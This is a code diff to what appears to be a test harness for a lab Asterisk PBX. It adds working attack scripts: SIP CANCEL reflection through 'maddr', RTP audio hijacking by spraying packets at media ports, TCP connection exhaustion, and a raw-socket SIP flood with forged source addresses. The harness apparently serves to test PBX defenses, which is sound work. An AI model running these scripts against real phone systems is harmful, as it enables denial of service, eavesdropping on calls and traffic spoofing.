@@ -88,6 +88,77 @@ print(sent)
 """
 
 
+_CANCELS = r"""
+import socket, sys, time
+host, port, maddr = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+count, rate = int(sys.argv[4]), int(sys.argv[5])
+channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+text = ("{1} sip:{0} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-c-SERIAL;maddr={2}\r\n"
+        "Max-Forwards: 70\r\nFrom: <sip:x@{0}>;tag=f\r\nTo: <sip:{0}>\r\nCall-ID: cancel-SERIAL\r\n"
+        "CSeq: 1 {1}\r\nContent-Length: 0\r\n\r\n").format(host, "CANCEL", maddr)
+for serial in range(count):
+    channel.sendto(text.replace("SERIAL", str(serial)).encode(), (host, port))
+    if serial % 10 == 9:
+        time.sleep(10 / rate)
+"""
+
+# Four packets in a row to each port make Asterisk take their sender for the phone. Prints what comes back.
+_STEAL = r"""
+import select, socket, struct, sys, time
+host, first, last, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
+channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+channel.setblocking(False)
+end, stolen, serial = time.monotonic() + seconds, 0, 0
+while time.monotonic() < end:
+    for port in range(first, last + 1, 2):
+        serial += 1
+        packet = struct.pack(">BBHII", 0x80, 0, serial & 0xFFFF, serial * 160, 0xBAD) + b"\xff" * 160
+        for _ in range(4):
+            channel.sendto(packet, (host, port))
+    while select.select([channel], [], [], 0.02)[0]:
+        try:
+            channel.recv(65535)
+            stolen += 1
+        except OSError:
+            pass  # word by ICMP that nobody listens there
+print(stolen)
+"""
+
+_CONNECT = r"""
+import socket, sys, time
+host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
+channels = []
+for _ in range(count):
+    channel = socket.socket()
+    channel.setblocking(False)
+    channel.connect_ex((host, port))
+    channels.append(channel)
+time.sleep(2)
+print(sum(channel.connect_ex((host, port)) in (0, 106) for channel in channels), flush=True)
+time.sleep(seconds)
+"""
+
+_FLOOD_FORGED = r"""
+import random, socket, struct, sys, time
+target, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
+networks = sys.argv[5].split(",")
+channel = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+text = ("OPTIONS sip:{0} SIP/2.0\r\nVia: SIP/2.0/UDP 198.18.99.9:5060;branch=z9hG4bK-flood\r\n"
+        "Max-Forwards: 70\r\nFrom: <sip:x@{0}>;tag=f\r\nTo: <sip:{0}>\r\nCall-ID: flood\r\n"
+        "CSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n").format(target).encode()
+begin, sent = time.monotonic(), 0
+while (now := time.monotonic() - begin) < seconds:
+    while sent < now * rate:
+        source = socket.inet_aton(f"{random.choice(networks)}.{random.randrange(120, 250)}")
+        datagram = struct.pack(">HHHH", random.randrange(1024, 65535), port, 8 + len(text), 0) + text
+        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), sent & 0xFFFF, 0, 64, 17, 0,
+                           source, socket.inet_aton(target))
+        channel.sendto(head + datagram, (target, 0))
+        sent += 1
+    time.sleep(0.001)
+print(sent)
+"""
+
 _KNOCK = """
 import socket, sys
 try:
@@ -135,7 +206,14 @@ def offend(machine: Machine, pbx: Pbx, kind: str, *, interval: float = 0.1, most
 
 
 def forge(
-    machine: Machine, pbx: Pbx, source: str, *, method: str = "REGISTER", count: int = 30, rate: float = 50
+    machine: Machine,
+    pbx: Pbx,
+    source: str,
+    *,
+    method: str = "REGISTER",
+    number: str = "",
+    count: int = 30,
+    rate: float = 50,
 ) -> Process:
     """Send requests under another's address, in the background.
 
@@ -144,12 +222,13 @@ def forge(
         pbx: whom it attacks.
         source: address in the packets and in the requests.
         method: REGISTER asks for an account that does not exist.
+        number: whom it is for; empty for the PBX itself.
         count: how many requests.
         rate: requests a second.
     """
     text = "\r\n".join(
         (
-            f"{method} sip:{pbx.target} SIP/2.0",
+            f"{method} sip:{number + '@' if number else ''}{pbx.target} SIP/2.0",
             f"Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK-forged-{source}-{next(_serial)}-SERIAL;rport",
             "Max-Forwards: 70",
             "From: <sip:nobody@forged.example>;tag=forgedSERIAL",
@@ -173,8 +252,15 @@ def flood(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
     )
 
 
-def knock(machine: Machine, address: str, port: int, seconds: float = 1.0) -> str:
+def knock(machine: Machine, address: str, port: int, seconds: float = 1.0, into: tuple[str, ...] = ()) -> str:
     """Try to connect over TCP, IPv4 or IPv6.
+
+    Args:
+        machine: who connects.
+        address: whom to.
+        port: where.
+        seconds: how long to wait for an answer.
+        into: command before it, which enters another network of the machine.
 
     Returns:
         ``open`` or ``refused``, which both are answers, or ``silence``.
@@ -182,4 +268,29 @@ def knock(machine: Machine, address: str, port: int, seconds: float = 1.0) -> st
     Raises:
         DriverError: the address cannot be reached at all.
     """
-    return machine.run(["python3", "-c", _KNOCK, address, str(port), str(seconds)]).strip()
+    return machine.run([*into, "python3", "-c", _KNOCK, address, str(port), str(seconds)]).strip()
+
+
+def cancels(machine: Machine, pbx: Pbx, maddr: str, *, count: int = 3000, rate: int = 3000) -> Process:
+    """Send CANCELs whose answers shall go to another address, in the background."""
+    arguments = [pbx.address, str(pbx.sip_port), maddr, str(count), str(rate)]
+    return machine.start(["python3", "-c", _CANCELS, *arguments], "cancels")
+
+
+def steal_audio(machine: Machine, pbx: Pbx, ports: tuple[int, int], seconds: float) -> Process:
+    """Send audio to every port of the PBX, and print how many packets came back."""
+    arguments = [pbx.address, *map(str, ports), str(seconds)]
+    return machine.start(["python3", "-c", _STEAL, *arguments], "steal")
+
+
+def hold_connections(machine: Machine, pbx: Pbx, count: int, seconds: float) -> Process:
+    """Open idle TCP connections; print how many were taken, and keep them."""
+    arguments = [pbx.address, str(pbx.sip_port), str(count), str(seconds)]
+    return machine.start(["python3", "-c", _CONNECT, *arguments], "connect")
+
+
+def flood_forged(machine: Machine, pbx: Pbx, *, rate: int, seconds: float) -> Process:
+    """Send requests from changing addresses of the lab's networks, where nobody lives; print how many."""
+    networks = "198.18.99,198.18.100"
+    arguments = [pbx.address, str(pbx.sip_port), str(rate), str(seconds), networks]
+    return machine.start(["python3", "-c", _FLOOD_FORGED, *arguments], "flood")
